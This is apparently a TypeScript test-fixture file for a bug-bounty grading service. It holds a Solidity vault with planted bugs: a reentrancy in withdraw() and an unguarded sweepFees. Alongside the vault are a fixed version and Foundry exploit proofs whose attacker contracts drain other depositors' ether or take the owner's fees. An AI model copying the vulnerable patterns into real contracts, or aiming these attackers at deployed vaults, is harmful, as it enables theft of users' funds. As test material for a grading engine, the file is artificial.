import type { SuiteSource } from '@starforge/contracts/rewards';

/**
 * The issue's scene (issue 28), as Solidity the real engine runs: a vault with a reentrancy bug
 * and a second, unrelated bug (anyone may sweep the fees); the same vault fixed; proofs by two
 * hunters of the reentrancy written with other names and words, and a proof of the other bug.
 * Plain data (`@starforge/contract-engine/vault-proofs`): services/bounties' tests and the bench
 * (`pnpm bench bounties`) run the same scene.
 */

const header = '// SPDX-License-Identifier: MIT\npragma solidity ^0.8.24;\n';

/** Version 1: `withdraw` pays before it clears the balance (reentrancy), and `sweepFees` has no owner check. */
export const buggyVault = `${header}
/// Holds ether for its depositors, less a fee the owner sweeps.
contract Vault {
    mapping(address => uint256) public balances;
    address public owner = msg.sender;
    uint256 public fees;

    function deposit() external payable {
        uint256 fee = msg.value / 100;
        fees += fee;
        balances[msg.sender] += msg.value - fee;
    }

    function withdraw() external {
        uint256 amount = balances[msg.sender];
        require(amount > 0, "nothing to withdraw");
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
        balances[msg.sender] = 0;
    }

    function sweepFees(address payable to) external {
        uint256 amount = fees;
        fees = 0;
        to.transfer(amount);
    }
}
`;

/** Version 2: the balance is cleared before the ether leaves (checks-effects-interactions); the sweep is still anyone's. */
export const fixedVault = buggyVault.replace(
  `        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");
        balances[msg.sender] = 0;`,
  `        balances[msg.sender] = 0;
        (bool ok, ) = msg.sender.call{value: amount}("");
        require(ok, "transfer failed");`,
);

/** The project's code as the editor sends one unnamed file: stored as `Vault.sol`, the name of the contract it holds. */
export const vaultCode = (content: string): SuiteSource[] => [{ name: 'Contract.sol', content }];

/** Hunter one: an attacker that re-enters withdraw() three times, and a test that checks the vault is drained. */
export const drainProof: SuiteSource = {
  name: 'test/Drain.t.sol',
  content: `${header}
import {Test} from "forge-std/Test.sol";
import {Vault} from "Vault.sol";

contract Attacker {
    Vault public vault;
    uint256 public rounds;

    constructor(Vault target) { vault = target; }

    function attack() external payable {
        vault.deposit{value: msg.value}();
        vault.withdraw();
    }

    receive() external payable {
        if (rounds < 3 && address(vault).balance > 0) {
            rounds++;
            vault.withdraw();
        }
    }
}

contract DrainTest is Test {
    Vault vault;

    function setUp() public {
        vault = new Vault();
        vm.deal(address(this), 100 ether);
        vault.deposit{value: 3 ether}();
    }

    /// The attacker takes out more than they put in: the vault is drained.
    function testAttackerDrainsTheVault() public {
        Attacker attacker = new Attacker(vault);
        attacker.attack{value: 1.01 ether}();
        assertGt(address(attacker).balance, 1.01 ether, "the attacker took out only what they put in");
    }
}
`,
};

/** Hunter two, the same bug: other names, other words, a loop of ten re-entries instead of three. */
export const sameBugOtherWords: SuiteSource = {
  name: 'ReentrancyPoC.sol',
  content: `${header}
import "forge-std/Test.sol";
import "Vault.sol";

/// Re-enters the vault's payout until it runs dry.
contract Thief {
    Vault immutable target;
    uint256 loops;

    constructor(address v) { target = Vault(v); }

    function go() external payable {
        target.deposit{value: msg.value}();
        target.withdraw();
    }

    receive() external payable {
        loops += 1;
        if (loops <= 10 && address(target).balance >= 0.99 ether) target.withdraw();
    }
}

contract ReentrancyPoC is Test {
    Vault v;

    function setUp() public {
        v = new Vault();
        vm.deal(address(0xBEEF), 50 ether);
        vm.prank(address(0xBEEF));
        v.deposit{value: 20 ether}();
    }

    function test_reentrancy_steals_other_depositors_funds() public {
        Thief thief = new Thief(address(v));
        uint256 before = address(v).balance;
        thief.go{value: 1 ether}();
        assertLt(address(v).balance, before, "vault kept its ether");
        assertGt(address(thief).balance, 5 ether);
    }
}
`,
};

/** A different bug on the same contract: anyone sweeps the owner's fees. */
export const sweepProof: SuiteSource = {
  name: 'test/Sweep.t.sol',
  content: `${header}
import {Test} from "forge-std/Test.sol";
import {Vault} from "Vault.sol";

contract SweepTest is Test {
    Vault vault;
    address stranger = makeAddr("stranger");

    function setUp() public {
        vault = new Vault();
        vm.deal(address(this), 10 ether);
        vault.deposit{value: 10 ether}();
    }

    function testStrangerSweepsTheFees() public {
        vm.prank(stranger);
        vault.sweepFees(payable(stranger));
        assertEq(stranger.balance, 0.1 ether);
    }
}
`,
};

/** The reentrancy again, as an invariant a fuzzing campaign breaks (a handler re-enters). */
export const invariantProof: SuiteSource = {
  name: 'test/Solvent.t.sol',
  content: `${header}
import {Test} from "forge-std/Test.sol";
import {Vault} from "Vault.sol";

contract Reenterer {
    Vault vault;
    bool armed;
    constructor(Vault v) { vault = v; }
    function depositAndWithdraw() external {
        vault.deposit{value: 1 ether}();
        armed = true;
        vault.withdraw();
        armed = false;
    }
    receive() external payable {
        if (armed && address(vault).balance >= 0.99 ether) vault.withdraw();
    }
}

contract SolventTest is Test {
    Vault vault;
    Reenterer reenterer;

    function setUp() public {
        vault = new Vault();
        reenterer = new Reenterer(vault);
        vm.deal(address(reenterer), 100 ether);
        vm.deal(address(this), 10 ether);
        vault.deposit{value: 5 ether}();
        targetContract(address(reenterer));
    }

    function invariant_vaultHoldsTheDeposits() public view {
        assertGe(address(vault).balance, vault.balances(address(this)));
    }
}
`,
};

/** A proof that does not compile (it calls a function the vault does not have). */
export const brokenProof: SuiteSource = {
  name: 'test/Broken.t.sol',
  content: `${header}
import {Test} from "forge-std/Test.sol";
import {Vault} from "Vault.sol";

contract BrokenTest is Test {
    function testNope() public {
        new Vault().steal();
    }
}
`,
};
